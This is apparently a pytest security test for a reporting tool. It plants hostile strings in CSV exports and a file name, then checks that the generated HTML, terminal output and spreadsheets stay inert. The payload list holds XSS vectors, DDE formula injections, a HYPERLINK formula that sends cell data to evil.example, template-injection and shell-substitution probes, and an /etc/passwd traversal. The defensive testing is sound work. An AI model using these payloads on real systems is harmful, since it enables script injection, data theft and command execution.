"""Exports with hostile text in every field of free text, and in file names, through a whole run.

What tests/test_hostile.py says of the few that the sample plants holds of every page here.
"""

import csv
import os
import random
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from tests.conftest import ROOT
from tests.test_hostile import FORMULA, NUMBER, csv_cells, files

SEED, SHARE = 8, 0.3
PAYLOADS = (
    "<script>window.pwned=1;document.title='pwned'</script>",
    "</script><script>window.pwned=2</script>",
    "<img src=x onerror=\"window.pwned=3;alert('pwned')\">",
    '"><svg onload=window.pwned=4>',
    "' autofocus onfocus='window.pwned=5",
    '<a href="javascript:window.pwned=6">x</a>',
    "[x](javascript:window.pwned=7) ![x](https://evil.example/x.png)",
    "<iframe src=https://evil.example/></iframe><base href=https://evil.example/>",
    "<style>@import url(https://evil.example/x.css)</style><meta http-equiv=refresh content=0>",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "{{7*7}}{% raw %}{{ self.__class__ }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "$(touch pwned) `touch pwned` ; touch pwned",
    "__class__ {0.__class__} %(label)s %s",
    "../../../../etc/passwd",
    "$$\\href{javascript:window.pwned=8}{x}$$ \\(x\\)",
    "\u202egnp.exe \u2066x\u2069 \u200b\ufeff",
    "\x1b[2J\x1b]0;pwned\x07 \x9b31m \r\x08",
    "datum.x');window.pwned=9;('",
    "<!-- alarm --><b>1</b><!-- /alarm --> ]]> --> \ud83d\ude00".encode(
        "utf-16", "surrogatepass"
    ).decode("utf-16"),
)
TEXT = {
    "campaigns.csv": ["name", "owner_id"],
    "content.csv": ["title", "author_ids", "url"],
    "hubspot_companies.csv": ["Company name", "Industry", "Company owner", "Country/Region"],
    "hubspot_contacts.csv": [
        "First Name", "Last Name", "Job Title", "Lead Status", "Original Source Drill-Down 1",
        "Associated Company", "Contact owner", "How did you hear about us?", "Country/Region",
    ],
    "hubspot_deals.csv": ["Deal Name", "Deal owner", "Deal Type", "Closed Lost Reason"],
    "sales_activities.csv": ["user_id", "topics", "note"],
    "sales_feedback.csv": ["reason", "topics", "text", "user_id", "answered_by"],
    "decisions.csv": ["text", "owner_id", "outcome"],
    "experiments.csv": ["source"],
    "users.csv": ["name"],
    "field_history.csv": ["old_value", "new_value", "changed_by"],
    "utm_touchpoints.csv": ["url", "utm_source", "utm_medium", "utm_campaign", "content_id"],
    "meta_ads_campaigns.csv": ["Campaign name"],
}  # fmt: skip
NAME = "meta_ads_<img src=x onerror=window.pwned=10>\n=cmd {{7*7}} $(touch pwned) \x1b[2J.csv"


def poison(path: Path, columns: list[str]) -> None:
    """Put hostile text into a share of the cells of some columns; keys and dates stay."""
    draw = random.Random(f"{SEED} {path.name}")
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    for column in columns:
        chosen = draw.sample(range(len(rows)), k=max(1, int(len(rows) * SHARE)))
        for n, row in enumerate(chosen):
            rows[row][column] = f"{PAYLOADS[n % len(PAYLOADS)]}"
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, rows[0].keys())
        writer.writeheader()
        writer.writerows(rows)


@pytest.fixture(scope="module")
def ran(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    """A run of the poisoned sample, in a process of its own; it goes on where pages fail."""
    place = tmp_path_factory.mktemp("hostile") / "w"
    for name in ("agreement", "data/sample"):
        shutil.copytree(ROOT / name, place / name)
    for name, columns in TEXT.items():
        poison(place / "data" / "sample" / name, columns)
    settings = (ROOT / "revops.toml").read_text("utf-8")
    if os.name != "nt":
        folder = place / "data" / "sample"
        (folder / "meta_ads_campaigns.csv").rename(folder / NAME)
        settings = settings.replace("meta_ads_campaigns.csv", "meta_ads_*.csv")
    (place / "revops.toml").write_text(settings, "utf-8")
    door = "import sys; from revops.cli import main; main(sys.argv[1:])"
    command = [sys.executable, "-c", door, "run", "-v", "--workspace", place]
    done = subprocess.run(command, capture_output=True, check=False, cwd=place)
    done.place = place  # type: ignore[attr-defined]
    yield done
    shutil.rmtree(place)


@pytest.fixture(scope="module")
def pages(ran: Any) -> list[Path]:
    """Every page: of the run, of the front, and the one that is mailed."""
    from revops import text
    from revops.report.mailed import mailed

    reports = ran.place / "reports"
    (week,) = [path for path in reports.iterdir() if path.is_dir() and path.name[0] != "."]
    mail = reports / "mail.html"
    page = (week / "weekly_review.html").read_text("utf-8")
    mail.write_text(mailed(page, text.load("en")), "utf-8")
    return sorted(reports.rglob("*.html"))


def test_the_run_comes_to_its_end(ran: Any, pages: list[Path]) -> None:
    assert ran.returncode in (0, 1), ran.stderr.decode()
    assert {"index.html", "runs.html", "metrics.html", "mail.html", "wins.html"} <= {
        path.name for path in pages
    }
    assert not list(ran.place.rglob("pwned"))


def test_the_terminal_is_told_nothing_but_text(ran: Any) -> None:
    told = (ran.stdout + ran.stderr).decode("utf-8")
    assert not [sign for sign in told if not sign.isprintable() and sign != "\n"]


def test_no_script_of_theirs_runs_and_no_request_leaves(
    ran: Any, pages: list[Path], browser: Any
) -> None:
    inside = (ran.place / "reports").as_uri() + "/"
    for path in pages:
        told: list[str] = []
        tab = browser.new_page()
        tab.on("dialog", lambda dialog, told=told: (told.append("dialog"), dialog.dismiss()))
        tab.on("pageerror", lambda error, told=told: told.append(str(error)))
        tab.on("request", lambda request, told=told: told.append(f"asks {request.url}"))
        tab.on("console", lambda said, told=told: told.append(f"{said.type} {said.text}"))
        tab.goto(path.as_uri())
        tab.wait_for_timeout(200)
        tab.locator("body").press("Tab")
        own = [f"asks {inside}", "asks data:", "log ", "debug ", "info ", "warning WARN "]  # Vega
        assert not [each for each in told if not each.startswith(tuple(own))], path.name
        assert tab.evaluate("typeof window.pwned") == "undefined", path.name
        assert "pwned" not in tab.title(), path.name
        assert tab.locator("iframe, base, [onload], [onerror], [onfocus]").count() == 0, path.name
        tab.close()


def test_downloads_hold_no_formula(pages: list[Path]) -> None:
    import io

    import openpyxl

    n_planted = 0
    for page in pages:
        cells = csv_cells(page)
        assert not [x for x in cells if x.startswith(FORMULA) and not NUMBER.fullmatch(x)], (
            page.name
        )
        for content in files(page, ".xlsx").values():
            book = openpyxl.load_workbook(io.BytesIO(content))
            every = [cell for row in book.active.iter_rows() for cell in row]
            assert not [cell for cell in every if cell.data_type == "f" or cell.hyperlink]
            texts = [cell.value for cell in every if isinstance(cell.value, str)]
            assert not [text for text in texts if text.startswith(FORMULA)], page.name
            n_planted += sum("cmd|" in text for text in texts)
    assert n_planted
